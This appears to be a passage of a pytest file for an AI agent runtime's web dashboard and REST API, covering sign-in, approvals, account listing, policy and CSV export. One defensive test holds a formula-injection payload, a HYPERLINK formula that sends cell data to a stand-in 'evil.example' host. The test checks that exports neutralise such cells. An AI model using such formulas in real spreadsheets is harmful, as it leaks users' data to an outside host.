        assert c.get("/brain/link?code=" + "A" * 43).status_code == 401


def test_static_assets_are_served_by_the_daemon(d: BrainDaemon) -> None:
    with d.client(None) as c:
        js = c.get("/brain/static/htmx.min.js")
        assert js.status_code == 200 and "htmx" in js.text[:2000]
        assert c.get("/brain/static/htmx.LICENSE").status_code == 200
        assert c.get("/brain/static/brain.css").status_code == 200


def _raise_request(d: BrainDaemon, conversation: str) -> tuple[str, Any]:
    """A real pending permission request, raised by the gate for a chat turn."""
    from chalie.wire.messages import TurnContext

    policy = d.rt.child("policy", PolicyActor).within(5)
    policy.call(PolicyActor.set, "chat", "calculator", "ask")
    ctx = TurnContext(conversation_id=conversation, turn_id="t-ask", channel="chat")
    reply = policy.call(
        PolicyActor.gate, "call-ask", ctx, "calculator", "calculator", False, "adding", {}
    )
    found = [r for r in policy.call(PolicyActor.pending) if r.conversation_id == conversation]
    assert len(found) == 1 and not reply.done()
    return found[0].request_id, reply


def test_an_answer_is_recorded_as_the_signed_in_principal(d: BrainDaemon) -> None:
    from chalie.gate.approvals import ApprovalStore
    from chalie.gate.tokens import TokenStore

    with d.client() as c:
        created = ok(
            c.post("/api/v1/tokens", json={"name": "answerer", "scope": "owner"}), api.CreatedToken
        )
    store = TokenStore(d.rt.db_path)
    try:
        info = store.verify(created.secret)
        assert info is not None and info.id
        first = store.verify(d.token)
        assert first is not None and first.id
    finally:
        store.close()
    book = ApprovalStore(d.rt.db_path)
    try:
        # REST: the bearer token's principal.
        rid, reply = _raise_request(d, "c-answer-rest")
        with d.client(created.secret) as c:
            ok(c.post(f"/api/v1/approvals/{rid}/answer", json={"answer": "deny"}), api.Answered)
        assert reply.result(5).decision == "deny"
        assert book.state(rid) == ("deny", info.id)
        # A dashboard session opened with a token: that token's principal.
        rid, reply = _raise_request(d, "c-answer-page")
        with d.client(None) as c:
            assert _sign_in(d, c, d.token).status_code == 303
            token = _csrf(c.get("/brain/approvals").text)
            done = c.post(
                "/brain/act/answer",
                data={"path.request_id": rid, "answer": "allow_once", "csrf": token},
            )
            assert done.status_code in (200, 303), done.text[:500]
        assert reply.result(5).decision == "allow"
        assert book.state(rid) == ("allow_once", first.id)
        # A one-time-link session: the local owner.
        from click.testing import CliRunner

        from chalie_app.cli import cli

        rid, reply = _raise_request(d, "c-answer-link")
        result = CliRunner().invoke(cli, ["--home", str(d.home), "brain", "open", "--no-browser"])
        url = result.stdout.strip().splitlines()[0]
        with d.client(None) as c:
            assert c.get(url[len(d.base) :]).status_code == 200
            token = _csrf(c.get("/brain/approvals").text)
            c.post(
                "/brain/act/answer",
                data={"path.request_id": rid, "answer": "deny", "csrf": token},
            )
        assert reply.result(5).decision == "deny"
        assert book.state(rid) == ("deny", "local")
    finally:
        book.close()
        d.rt.child("policy", PolicyActor).within(5).call(
            PolicyActor.reset, channel="chat", permission="calculator"
        )


def test_accounts_are_listed_without_any_secret(d: BrainDaemon) -> None:
    from chalie.accounts.spec import Account
    from chalie.accounts.store import AccountStore

    password = "s3cret-Pa55word-never-shown"
    book = AccountStore(d.rt.db_path, d.home)
    try:
        book.add(
            Account(
                name="work-mail",
                kind="imap",
                host="127.0.0.1",
                port=1993,
                username="alice",
                address="alice@example.com",
            ),
            password,
        )
        book.add(
            Account(name="cal", kind="caldav", url="https://dav.example/cal/", username="alice"),
            password + "-2",
        )
        book.add(Account(name="holidays", kind="ics", url="https://example.com/h.ics"), None)
    finally:
        book.close()
    try:
        with d.client() as c:
            got = c.get("/api/v1/accounts")
            rows = ok(got, list[api.AccountRow])
            assert password not in got.text
            by = {r.name: r for r in rows}
            assert set(by) == {"work-mail", "cal", "holidays"}
            assert (by["work-mail"].kind, by["work-mail"].server) == ("imap", "127.0.0.1:1993")
            assert by["work-mail"].password_stored and by["work-mail"].security == "tls"
            assert (by["cal"].kind, by["cal"].server) == ("caldav", "https://dav.example/cal/")
            assert not by["holidays"].password_stored
            assert sum(r.default for r in rows if r.kind == "imap") == 1
        with d.client(None) as c:
            refused(c.get("/api/v1/accounts"), 401, "unauthorized")
            assert c.get("/brain/accounts").headers["location"] == "/brain/login"
            assert _sign_in(d, c, d.token).status_code == 303
            page = c.get("/brain/accounts")
            assert page.status_code == 200
            assert "work-mail" in page.text and "127.0.0.1:1993" in page.text
            assert "alice@example.com" in page.text and "holidays" in page.text
            assert password not in page.text
        with d.client() as c:
            agent = ok(
                c.post("/api/v1/tokens", json={"name": "acct-agent", "scope": "agent"}),
                api.CreatedToken,
            )
        with d.client(agent.secret) as c:
            got = c.get("/api/v1/accounts")
            refused(got, 403, "forbidden")
            assert "work-mail" not in got.text
        with d.client(None) as c:
            assert _sign_in(d, c, agent.secret).status_code == 403
            assert c.get("/brain/accounts").status_code == 303
    finally:
        book = AccountStore(d.rt.db_path, d.home)
        try:
            for name in ("work-mail", "cal", "holidays"):
                book.remove(name)
        finally:
            book.close()


def test_policy_set_through_the_dashboard_takes_effect_at_once(d: BrainDaemon) -> None:
    """The gate's next decision sees a change the moment the answer is back."""
    with d.client() as c:
        ok(
            c.put(
                "/api/v1/policy",
                json={"channel": "chat", "permission": "clock", "decision": "deny"},
            ),
            api.PolicyRowView,
        )
        started = time.monotonic()
        setting = (
            d.rt.child("policy", PolicyActor)
            .within(5)
            .call(PolicyActor.view)
            .setting("chat", "clock")
        )
        assert setting == "deny" and time.monotonic() - started < 5
        ok(c.post("/api/v1/policy/reset", json={"permission": "clock"}), api.Removed)


def test_chalie_brain_open_prints_a_working_link(d: BrainDaemon) -> None:
    from click.testing import CliRunner

    from chalie_app.cli import cli

    result = CliRunner().invoke(cli, ["--home", str(d.home), "brain", "open", "--no-browser"])
    assert result.exit_code == 0, result.output
    url = result.stdout.strip().splitlines()[0]
    with d.client(None) as c:
        assert c.get(url[len(d.base) :]).status_code == 200
        assert c.get("/brain/approvals").status_code == 200


def test_an_mcp_server_change_is_saved_and_restarts_only_that_actor(d: BrainDaemon) -> None:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    with d.client() as c:
        before = ok(c.get("/api/v1/overview"), api.Overview)
        refused(c.patch("/api/v1/mcp-server", json={"host": "192.0.2.1"}), 400, "invalid-config")
        changed = ok(
            c.patch("/api/v1/mcp-server", json={"port": port, "gateway": True}), api.McpServerView
        )
        assert changed.port == port and changed.gateway and changed.running
        assert changed.url == f"http://127.0.0.1:{port}/mcp"
        text = (d.home / "config.toml").read_text()
        assert f"port = {port}" in text and "gateway = true" in text and "[chat]" in text
        after = ok(c.get("/api/v1/overview"), api.Overview)
        assert after.pid == before.pid and after.uptime >= before.uptime
        started = {a.id: a.started_at for a in before.actors}
        restarted = {a.id for a in after.actors if a.started_at != started[a.id]}
        assert restarted == {"mcp_server"}
        with socket.create_connection(("127.0.0.1", port), 5):
            pass
        back = ok(
            c.patch("/api/v1/mcp-server", json={"port": 0, "gateway": False}), api.McpServerView
        )
        assert back.running and not back.gateway and back.url != changed.url
    d.mcp_url = back.url or ""


def test_a_conversation_is_listed_read_and_deleted(d: BrainDaemon) -> None:
    from chalie.chat import protocol as p
    from chalie.chat.client import ChatClient

    d.script({"steps": [{"text": "Hello from the script."}]})
    with ChatClient.local(d.home) as chat:
        chat.send(p.Send(channel="chat-openai", text="hi there", client_msg_id="conv1"))
        while True:
            frame = chat.receive(30)
            assert frame is not None
            if frame["type"] == "turn_finished":
                break
    cid = frame["conversation_id"]
    with d.client(None) as c:  # issue 34: the page read `content`, the API sends `text`
        assert _sign_in(d, c, d.token).status_code == 303
        page = c.get(f"/brain/conversations?id={cid}").text
        assert '<pre class="text">hi there</pre>' in page
        assert '<pre class="text">Hello from the script.</pre>' in page
    with d.client() as c:
        rows = ok(c.get("/api/v1/conversations"), list[api.ConversationRow])
        assert cid in {r.id for r in rows}
        shown = ok(c.get(f"/api/v1/conversations/{cid}"), api.ConversationView)
        text = json.dumps(shown.detail)
        assert "hi there" in text and "Hello from the script." in text
        assert ok(c.delete(f"/api/v1/conversations/{cid}"), api.Deleted).deleted
        refused(c.get(f"/api/v1/conversations/{cid}"), 404, "unknown-conversation")


def test_a_form_request_is_listed_with_its_schema_and_answered_with_content(
    d: BrainDaemon,
) -> None:
    """A request with a form (a remote server's elicitation) over REST: listed with its
    schema; content that does not fit is a 400 and the request stays; the fitting one is
    the decision's content."""
    from chalie.wire.messages import TurnContext

    form = {
        "type": "object",
        "properties": {"city": {"type": "string", "maxLength": 20}},
        "required": ["city"],
    }
    policy = d.rt.child("policy", PolicyActor).within(5)
    ctx = TurnContext(conversation_id="c-form", turn_id="t-form", channel="chat")
    reply = policy.call(
        PolicyActor.gate,
        "call-form",
        ctx,
        "_mcp_cap_ask",
        "_mcp_cap.elicitation",
        False,
        "which city?",
        {"message": "which city?"},
        form=form,
        expires_in=60.0,
    )
    with d.client() as c:
        listed = ok(c.get("/api/v1/approvals"), list[api.Approval])
        (mine,) = [a for a in listed if a.conversation_id == "c-form"]
        assert mine.form == form
        path = f"/api/v1/approvals/{mine.request_id}/answer"
        refused(c.post(path, json={"answer": "allow_once"}), 400, "invalid-args")
        refused(
            c.post(path, json={"answer": "allow_once", "content": {"city": "x" * 30}}),
            400,
            "invalid-args",
        )
        assert not reply.done()
        ok(c.post(path, json={"answer": "allow_once", "content": {"city": "Rabat"}}), api.Answered)
    decision = reply.result(5)
    assert decision.allowed and decision.content == {"city": "Rabat"}


def test_every_answer_carries_the_servers_own_time(d: BrainDaemon) -> None:
    """Server-Timing (what tools/bench/bench_brain.py reads): on REST answers, refusals
    included, and on pages, the login page and a redirect included."""

    def took(response: Any) -> float:
        name, dur = response.headers["server-timing"].split(";")
        assert name == "app" and dur.startswith("dur=")
        return float(dur.removeprefix("dur="))

    with d.client() as c:
        assert took(c.get("/api/v1/overview")) >= 0
        assert took(c.get("/api/v1/conversations/c-none")) >= 0  # a 404
    with d.client(None) as c:
        assert took(c.get("/api/v1/overview")) >= 0  # a 401
        assert took(c.get("/brain/approvals")) >= 0  # the 303 to the login page
        assert took(c.get("/brain/login")) >= 0
        assert _sign_in(d, c, d.token).status_code == 303
        shown = c.get("/brain/approvals")
        assert shown.status_code == 200 and took(shown) >= 0


def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run(d: BrainDaemon) -> None:
    """Issue 30: model-written text starting with =, +, -, @ was written as a formula."""
    import csv
    import io

    clock_row(d, "formula-1", "c-formula", '=HYPERLINK("http://evil.example/?"&A1,"click")')
    with d.client() as c:
        text = c.get(
            "/api/v1/trail/export", params={"conversation": "c-formula", "format": "csv"}
        ).text
    head, row = list(csv.reader(io.StringIO(text)))
    summary = row[head.index("act_summary")]
    assert summary == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_the_dashboards_defects_a_new_user_met(d: BrainDaemon) -> None:
    """Issue 34: the trail's exports answered the signed-in browser with 401, its time
    filters took unix times, the Workers panel was a raw JSON dump, and the discovery form
    cleared its inputs."""
    import html

    with d.client(None) as c:
        refused_page = c.get("/brain/download/trail_export?format=csv")
        assert refused_page.status_code == 303  # not signed in: to the login page
        assert _sign_in(d, c, d.token).status_code == 303
        trail = c.get("/brain/trail").text
        links = re.findall(r'href="(/brain/download/trail_export\?[^"]+)"', trail)
        assert len(links) == 2
        for link in links:
            got = c.get(html.unescape(link))
            assert got.status_code == 200, got.text[:300]
            assert got.headers["content-disposition"].startswith("attachment")
        csv = c.get("/brain/download/trail_export?format=csv")
        assert csv.headers["content-type"].startswith("text/csv")
        assert csv.text.splitlines()[0].startswith("id,")
        assert c.get("/brain/download/trail").status_code == 404  # not a download
        assert c.get("/brain/download/nope").status_code == 404
        # A date and time, as the form's datetime-local input sends it, shown back.
        since = c.get("/brain/trail?since=2000-01-02T03:04:05").text
        assert 'value="2000-01-02T03:04:05"' in since and 'type="datetime-local"' in since
        assert "unix time" not in since
        bad = c.get("/brain/trail?since=yesterday").text
        assert "since: &#39;yesterday&#39; is not a date and time" in bad
        overview = c.get("/brain/overview").text
        workers = overview.split('id="workers-h"', 1)[1].split("</section>", 1)[0]
        assert '<th scope="col">Slot</th>' in workers and 'class="json"' not in workers
        assert ".sock" not in workers and "ipc://" not in workers
        token = _csrf(c.get("/brain/discovery").text)
        done = c.post(
            "/brain/act/discovery_try",
            data={"csrf": token, "queries[]": ["what time is it", "15 percent of 240"]},
        )
        assert done.status_code == 200, done.text[:300]
        assert 'value="what time is it"' in done.text and 'value="15 percent of 240"' in done.text


def test_internal_rows_are_hidden_from_the_policy_surface_with_a_way_to_show_them(
    d: BrainDaemon,
) -> None:
    policy = d.rt.child("policy", PolicyActor).within(5)
    policy.call(PolicyActor.set, "subconscious", "find_skills", "internal")
    with d.client() as c:
        everything = ok(c.get("/api/v1/policy?internal=true"), api.PolicyPage)
        internal = [r for r in everything.rows if r.decision == "internal"]
        assert internal, "a runtime's own tool has an internal row"
        default = ok(c.get("/api/v1/policy"), api.PolicyPage)
        assert all(r.decision != "internal" for r in default.rows)
        assert default.hidden_internal == len(internal)
        assert len(default.rows) + len(internal) == len(everything.rows)
        asked = ok(c.get("/api/v1/policy?setting=internal"), api.PolicyPage)
        assert len(asked.rows) == len(internal)
    with d.client(None) as c:
        assert _sign_in(d, c, d.token).status_code == 303
        page = c.get("/brain/policy").text
        assert f"{len(internal)} internal rows" in page and "internal=true" in page
        shown = c.get("/brain/policy?internal=true").text
        assert "internal rows" not in shown.split('id="policy-results"', 1)[1]
        assert internal[0].permission in shown
    policy.call(PolicyActor.reset, channel="subconscious", permission="find_skills")
